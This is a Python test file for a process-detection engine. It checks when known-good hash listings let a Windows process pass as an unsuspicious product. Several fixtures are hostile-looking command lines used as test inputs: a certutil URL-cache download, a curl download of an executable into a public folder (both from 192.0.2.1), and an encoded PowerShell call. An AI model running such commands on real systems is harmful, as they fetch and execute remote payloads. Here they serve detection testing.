"""What a list of known-good hashes may say of a process, and what it may not."""

from __future__ import annotations

from dataclasses import replace

import numpy as np
import pytest

from engine.domain.processes import Listing
from engine.knowledge.products import plain_products
from tests.engine.process_samples import make_table, with_lists

GOOD, BOTH = Listing(good=("nsrl.zip",)), Listing(good=("nsrl.zip",), bad=("evil.txt",))
SERVICES = "c:/windows/system32/services.exe".replace("/", "\\")
POWERSHELL = "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe"
UPDATER = "c:\\programdata\\acme\\updater.exe"
HELPER = "c:\\programdata\\acme\\helper.exe"
TEMP = "c:\\users\\ann\\appdata\\local\\temp\\setup.exe"
CERTUTIL = "c:\\windows\\system32\\certutil.exe"


def plain(parent: str, child: str, line: str | None, of: dict[int, Listing], *, recorded: bool = True) -> bool:
    corpus, table = make_table([((parent,), -1, None), ((parent, child), 0, line)])
    table = replace(table, recorded=np.array([recorded, True], dtype=np.int8))
    return bool(plain_products(corpus, with_lists(table, of))[1])


@pytest.mark.parametrize(
    ("parent", "child", "line", "of", "expected"),
    [
        (SERVICES, UPDATER, "updater /silent", {0: GOOD, 1: GOOD}, True),
        (SERVICES, UPDATER, None, {0: GOOD, 1: GOOD}, True),
        (TEMP, UPDATER, "updater", {0: GOOD, 1: GOOD}, True),
        (SERVICES, UPDATER, None, {0: GOOD}, False),
        (SERVICES, UPDATER, None, {1: GOOD}, False),
        (SERVICES, UPDATER, None, {0: GOOD, 1: BOTH}, False),
        (TEMP, UPDATER, "updater", {0: BOTH, 1: GOOD}, False),
        (SERVICES, POWERSHELL, "powershell -enc aaaa", {0: GOOD, 1: GOOD}, False),
        (POWERSHELL, UPDATER, "updater", {0: GOOD, 1: GOOD}, False),
        (SERVICES, CERTUTIL, "certutil -urlcache -split -f http://192.0.2.1/a", {0: GOOD, 1: GOOD}, False),
    ],
)
def test_only_a_product_of_which_nothing_else_is_to_be_said(
    parent: str, child: str, line: str | None, of: dict[int, Listing], expected: bool
) -> None:
    assert plain(parent, child, line, of) is expected


def test_a_parent_that_only_its_child_names_must_be_no_suspect() -> None:
    assert plain(SERVICES, UPDATER, "updater", {1: GOOD}, recorded=False)
    assert not plain(TEMP, UPDATER, "updater", {1: GOOD}, recorded=False)
    assert not plain(POWERSHELL, UPDATER, "updater", {1: GOOD}, recorded=False)


def test_nobody_knows_who_told_a_root_to_run() -> None:
    corpus, table = make_table([((UPDATER,), -1, "updater")])
    assert plain_products(corpus, with_lists(table, {0: GOOD})).tolist() == [False]


def test_what_the_command_rules_speak_of_is_no_plain_product() -> None:
    """No table calls curl a suspect, but there is a command rule for what it is asked here."""
    curl = "c:\\windows\\system32\\curl.exe"
    assert plain(SERVICES, curl, "curl --version", {0: GOOD, 1: GOOD})
    assert not plain(SERVICES, curl, "curl -o c:\\users\\public\\a.exe http://192.0.2.1/a", {0: GOOD, 1: GOOD})
